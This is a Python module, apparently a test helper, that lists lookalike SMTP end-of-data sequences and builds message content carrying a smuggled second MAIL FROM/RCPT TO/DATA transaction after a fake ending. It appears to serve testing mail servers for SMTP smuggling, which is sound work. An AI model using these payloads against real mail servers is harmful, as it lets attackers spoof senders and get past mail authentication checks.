"""Ends of data that some server might take for the real one, CRLF.CRLF."""

from __future__ import annotations

from itertools import product

_NEWLINES = (b"\r\n", b"\n", b"\r")
_JUNK = (b"\0", b"\t", b" ")
REAL = b"\r\n.\r\n"


def _ends() -> dict[str, bytes]:
    pairs = list(product(_NEWLINES, _NEWLINES))
    ends = [before + b"." + after for before, after in pairs]
    ends += [before + b"." + junk + after for junk in _JUNK for before, after in pairs]
    ends += [before + junk + b"." + after for junk in _JUNK for before, after in pairs]
    ends += [before + b".." + after for before, after in pairs]
    # doubled or swapped
    ends += [b"\r\r\n.\r\r\n", b"\r\r\n.\r\n", b"\n\n.\n\n", b"\r\r.\r\r", b"\n\r.\n\r"]
    ends += [b"\r\n.\r\r\n", b"\n.\r\r\n", b"\r\n\n.\r\n", b"\r\n\r.\r\n", b"\n\r\n.\n\r\n"]
    # more than one NUL, and NULs within a line end
    ends += [b"\r\n\0\0.\0\0\r\n", b"\n\0.\0\n", b"\r\0\n.\r\0\n", b"\r\n.\r\0\n", b"\r\0\n.\r\n"]
    return {repr(end)[2:-1]: end for end in dict.fromkeys(ends)}


ENDS = _ends()
"""By their text in Python."""


def smuggled(name: str, number: int, domain: str) -> tuple[bytes, range]:
    """Return content with a second message after that end, and where the end is cut."""
    evil = (
        f"MAIL FROM:<evil@example.com>\r\nRCPT TO:<evil{number}@{domain}>\r\nDATA\r\n"
        "Subject: evil\r\n\r\nthis is the second message\r\n"
    )
    first = b"Subject: good\r\n\r\nfirst"
    whole = first + ENDS[name] + evil.encode()
    return whole, range(len(first), len(first) + len(ENDS[name]) + 1)
